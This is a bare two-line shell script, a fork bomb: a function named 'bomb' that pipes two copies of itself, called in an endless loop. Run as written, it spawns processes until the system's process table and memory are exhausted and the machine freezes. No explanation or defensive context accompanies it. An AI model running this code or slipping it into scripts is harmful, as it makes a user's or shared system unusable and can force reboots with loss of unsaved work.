bomb() { bomb | bomb; }
while true; do bomb; done
